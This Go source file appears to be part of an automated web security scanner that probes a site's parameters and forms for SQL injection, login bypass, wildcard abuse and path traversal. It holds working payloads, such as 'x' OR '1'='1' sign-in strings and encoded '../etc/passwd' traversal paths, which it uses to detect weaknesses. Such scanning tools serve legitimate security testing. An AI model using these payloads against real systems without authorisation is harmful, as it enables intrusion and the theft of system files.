package attack

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
)

// injection writes into everything that takes a text, and looks what the text became.
func injection(r *run) {
	trap := r.newTrap()
	defer trap.close()
	defer r.sprung(trap) // what came late, also when the time is over
	for _, p := range r.params() {
		r.injectParameter(p, trap)
	}
	for _, f := range r.forms() {
		r.injectForm(f, trap)
		r.back()
	}
	r.addresses()
	r.ofVisitors()
	r.reports()
	r.callInjection()
	r.injectSignIn()
	r.traversal()
	if len(trap.sent) > 0 {
		r.rest(0)
	}
}

// injectParameter tries every payload in one parameter of a GET.
func (r *run) injectParameter(p *parameter, trap *trap) {
	if p.by.ready() != nil {
		return
	}
	route := "GET " + p.pattern
	send := func(value string) (*answer, *Request) {
		q := get(p.with(value)).own(r.t)
		return p.by.fork().send(q), q
	}
	for _, make := range payloads {
		n := r.mark()
		ans, q := send(make(n))
		r.examine(ans, n, route, q, p.by)
		if to, ok := r.t.local(ans.location(), ans.path); ok && ans.redirects() {
			r.examine(p.by.fork().visit(to), n, route, q, p.by)
		}
		r.told(n, route, q, p.by)
	}
	r.lure(trap, route, p.by, send)
	r.options(route, p.by, send)
	r.wildcards(p, route, send)
	if r.t.typed(http.MethodGet, p.path) {
		return // its statements are constants of the program, prepared at start
	}
	value, _ := url.QueryUnescape(p.value)
	r.sql(route, p.by, r.findable(value, send), send)
}

// findable returns a text with which a page shows something else than with one that is nowhere: where a search finds nothing, nothing
// can be less. The text that is known, or a letter that many words have, or a digit.
func (r *run) findable(value string, send func(string) (*answer, *Request)) string {
	if value == "" {
		value = "a"
	}
	n := r.mark()
	none, _ := send(n)
	for _, c := range append([]string{value}, strings.Split("aeionstrlu10", "")...) {
		ans, _ := send(c)
		if ans == nil || none == nil || ans.status != http.StatusOK {
			break
		}
		if said(ans) != said(&answer{status: none.status, body: instead(none.body, n, c)}) {
			return c
		}
	}
	return value
}

// injectForm tries every payload in all texts of a form at once.
func (r *run) injectForm(f *seenForm, trap *trap) {
	r.baseline(f)
	if f.base == nil {
		return
	}
	ways := []map[string]string{f.fixed}
	if len(f.fixed) > 0 {
		ways = append(ways, nil) // what takes no text is written into as well
	}
	for _, fixed := range ways {
		r.injectTexts(f, fixed, trap)
	}
}

func (r *run) injectTexts(f *seenForm, fixed map[string]string, trap *trap) {
	route := "POST " + f.pattern
	held := r.t.typed(http.MethodPost, f.action) // to its limits: one text too long, and no other one is looked at
	viewer := f.by
	send := func(value string) (*answer, *Request) {
		a, err := r.person(f)
		if err != nil {
			return nil, nil
		}
		g := r.fresh(f, a)
		if g == nil {
			return nil, nil
		}
		viewer = f.viewer(a)
		v := a.values(g, "mq0")
		for _, d := range g.fields {
			if d.isText() && d.kind != "password" {
				if made := d.limit.longer(value); !held || d.limit.takes(made) {
					v.Set(d.name, made)
				}
			}
			if d.kind == "hidden" && !d.isToken() && !a.typesInto(d.name) {
				v.Set(d.name, d.value)
			}
		}
		for _, known := range []map[string]string{fixed, f.typed} {
			for name, value := range known {
				v.Set(name, value)
			}
		}
		q := g.request(v).own(r.t)
		return a.send(q), q
	}
	if !f.writes() {
		return
	}
	for _, make := range payloads {
		n := r.mark()
		ans, q := send(make(n))
		if ans == nil {
			return
		}
		r.examine(ans, n, route, q, f.by)
		r.told(n, route, q, f.by)
		for _, p := range r.showing(f, viewer, ans) {
			r.examine(p, n, route, q, f.by)
		}
	}
	r.lure(trap, route, f.by, send)
	if !r.t.typed(http.MethodPost, f.action) {
		for _, name := range []string{"../../../../../../../../etc/passwd", "/etc/passwd"} {
			if ans, q := send(name); ans != nil && passwd.MatchString(ans.body) {
				if less, _ := send("etc/passwd"); less != nil && !passwd.MatchString(less.body) {
					r.hit(RuleTraversal, route, q, f.by, "a field led to /etc/passwd")
				}
			}
		}
		r.sql(route, f.by, "a", send)
		r.options(route, f.by, send)
		r.laterSQL(f, send)
	}
}

// showing loads the pages on which what a form takes comes out.
func (r *run) showing(f *seenForm, viewer *actor, ans *answer) (all []*answer) {
	if to, ok := r.t.local(ans.location(), ans.path); ok && ans.redirects() {
		made := viewer.fork().visit(to)
		all = append(all, made)
		if !r.t.merlon {
			all = append(all, r.below(viewer, made, to)...)
		}
	}
	for _, p := range f.shows {
		all = append(all, viewer.fork().visit(p))
	}
	for _, v := range f.others {
		if v.by.ready() == nil {
			all = append(all, v.by.fork().visit(v.path))
		}
	}
	return all
}

// sql tells a statement from a text: what is true in SQL is answered otherwise than what is false, what is there otherwise
// than what is not.
func (r *run) sql(route string, by *actor, value string, send func(string) (*answer, *Request)) {
	none := r.mark() // a name of its own: a site that wants texts to be unique refuses one that another form has taken
	for _, pair := range [][2]string{
		{"%s'||(SELECT '')||'", "%s'||(SELECT '' FROM " + none + ")||'"},
		{"%s+(SELECT 0)", "%s+(SELECT 0 FROM " + none + ")"},
		{"(SELECT 0),%s", "(SELECT 0 FROM " + none + "),%s"},
		{"(SELECT 0)", "(SELECT 0 FROM " + none + ")"},
	} {
		good, _ := send(fill(pair[0], value))
		bad, _ := send(fill(pair[1], value))
		if good == nil || bad == nil {
			return
		}
		if fails := func(good, bad *answer) bool {
			return good != nil && bad != nil && good.status < 400 && good.status > 0 && bad.status >= 500
		}; fails(good, bad) { // each again: a site may fail by chance, or under load
			good, _ = send(fill(pair[0], value))
			bad, q := send(fill(pair[1], value))
			if !fails(good, bad) {
				continue
			}
			r.hit(RuleSQL, route, q, by, "a table that is not there makes the page fail, a statement that is right does not")
			return
		}
	}
	for _, arms := range [][3]string{ // true, false, and true with the words of the false one
		{"%s' AND '1'='1", "%s' AND '1'='2", "%s' AND '2'='2"},
		{"%s%%' AND '1%%'='1", "%s%%' AND '1%%'='2", "%s%%' AND '2%%'='2"},
		{"%s AND 1=1", "%s AND 1=2", "%s AND 2=2"},
	} {
		differs := true
		var q *Request
		for range 2 {
			base, _ := send(value)
			yes, _ := send(fill(arms[0], value))
			no, last := send(fill(arms[1], value))
			if base == nil || yes == nil || no == nil {
				return
			}
			q = last
			a, b, c := said(base), said(yes), said(no)
			if differs = yes.status == base.status && yes.status < 400 && b == a && c != a && no.status < 500; !differs {
				break
			}
			if also, _ := send(fill(arms[2], value)); also == nil || said(also) != a {
				differs = false // the words were looked for
				break
			}
		}
		if differs {
			r.hit(RuleSQL, route, q, by, "what is true in SQL shows the page as it was, what is false shows another one")
			return
		}
	}
	r.quietSQL(route, by, value, send)
}

// quietSQL is for pages that swallow errors: a table that is not there shows another page, and the same word as a name that is there
// the page as it was. A search for words finds neither.
func (r *run) quietSQL(route string, by *actor, value string, send func(string) (*answer, *Request)) {
	for _, place := range []string{"%s'||(SELECT X)||'", "(SELECT X),%s", "%s,(SELECT X)", "%s+(SELECT X)"} {
		constant := "0"
		if strings.Contains(place, "'") {
			constant = "''"
		}
		said := func(from string) (string, *Request) {
			text := value
			if from != "" {
				text = strings.Replace(fill(place, value), "X", constant+from, 1)
			}
			ans, q := send(text)
			if ans == nil || ans.status >= 400 || ans.status == 0 {
				return "", q
			}
			return said(&answer{status: ans.status, body: instead(ans.body, text, value)}), q
		}
		found := true
		var q *Request
		for i := 0; i < 2 && found; i++ {
			base, _ := said("")
			none := r.mark() // as in sql
			good, _ := said(" FROM (SELECT " + constant + ") AS " + none)
			if found = base != "" && good == base; !found {
				break
			}
			var bad string
			bad, q = said(" FROM " + none)
			found = bad != "" && bad != base
		}
		if found {
			r.hit(RuleSQL, route, q, by, "a table that is not there shows another page, one of the same name that is there the page as it was")
			return
		}
	}
}

func fill(pattern, value string) string {
	if strings.Contains(pattern, "%s") {
		return fmt.Sprintf(pattern, value)
	}
	return pattern
}

// said is what a page says, without attributes: there a value may be repeated.
func said(ans *answer) string {
	var b strings.Builder
	fmt.Fprint(&b, ans.status, " ")
	body := tag.ReplaceAllString(ans.body, " ")
	for w := range strings.FieldsSeq(body) {
		if !strings.ContainsAny(w, "'=&%") && w != "AND" && len(w) < 40 {
			b.WriteString(w + " ")
		}
	}
	return b.String()
}

var tag = regexp.MustCompile(`<[^>]*>`)

// wildcards asks whether % finds everything where a word that is nowhere finds nothing, and another sign finds nothing either:
// where only words are looked for, a sign is the same as no word. The statement may be a constant: this is of its values.
func (r *run) wildcards(p *parameter, route string, send func(string) (*answer, *Request)) {
	links := func(value string) (n int, q *Request) {
		ans, q := send(value)
		if ans.status != http.StatusOK {
			return -1, q
		}
		return len(ans.dom(r.t).links), q
	}
	none, _ := links(r.mark())
	all, _ := links("")
	if none < 0 || all <= none {
		return // it looks for nothing
	}
	some, q := links("%")
	if some != all {
		return
	}
	under, _ := links("_%_")
	other, _ := links("#")
	if under > none && other < all {
		r.hit(RuleWildcard, route, q, p.by, "a search for %% lists everything, one for a word that is nowhere nothing")
	}
}

// injectSignIn types statements where a name and a password are asked for.
func (r *run) injectSignIn() {
	for _, f := range r.forms() {
		if !f.by.anonymous() || f.passwords() != 1 || r.t.typed(http.MethodPost, f.action) {
			continue
		}
		for _, text := range []string{"x' OR '1'='1", "x' OR 1=1 -- ", "x' OR '1'='1' -- "} {
			a := &actor{run: r, role: "anonymous", cookies: map[string]string{}}
			g := r.fresh(f, a)
			if g == nil {
				return
			}
			v := g.filled("mq0x")
			for _, d := range g.fields {
				if d.isText() {
					v.Set(d.name, text)
				}
			}
			q := g.request(v).own(r.t)
			a.send(q)
			for _, p := range r.site.proof {
				if ans := a.fork().loads(get(p).own(r.t)); ans.status == http.StatusOK {
					r.hit(RuleSQL, "POST "+f.pattern, q, a, "%q signed somebody in", text)
					return
				}
			}
		}
	}
}

var passwd = regexp.MustCompile(`(?m)^root:[^:\n]*:0:0:`)

// traversal asks for a file of the system wherever a name is taken.
func (r *run) traversal() {
	names := []string{"../../../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//....//....//....//....//etc/passwd",
		"/etc/passwd", "%2fetc%2fpasswd", "..%5c..%5c..%5c..%5cetc%5cpasswd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"}
	for _, p := range r.params() {
		kept, _ := url.QueryUnescape(p.value) // a folder that the name must begin with
		all := names
		if folder := kept[:strings.LastIndexByte(kept, '/')+1]; folder != "" {
			all = append([]string{folder + names[0]}, names...)
		}
		for _, name := range all {
			plain, err := url.PathUnescape(name)
			if err != nil {
				continue
			}
			q := get(p.with(plain)).own(r.t)
			if ans := p.by.fork().send(q); passwd.MatchString(ans.body) && !passwd.MatchString(p.by.fork().send(get(p.with("etc/passwd")).own(r.t)).body) {
				r.hit(RuleTraversal, "GET "+p.pattern, q, p.by, "the parameter %s led to /etc/passwd", p.name)
			}
		}
	}
	for _, a := range r.people {
		folders := map[string]bool{}
		for _, p := range r.site.order[a.name()] {
			if r.t.typed(http.MethodGet, p) {
				continue
			}
			folder := bare(p)[:strings.LastIndexByte(bare(p), '/')+1]
			if folders[folder] || !r.wants(r.t.pattern(http.MethodGet, bare(p))) {
				continue
			}
			folders[folder] = true
			for _, name := range names {
				q := get(folder + name).own(r.t)
				if ans := a.fork().send(q); passwd.MatchString(ans.body) {
					r.hit(RuleTraversal, "GET "+folder, q, a, "a path led to /etc/passwd")
				}
			}
		}
	}
}
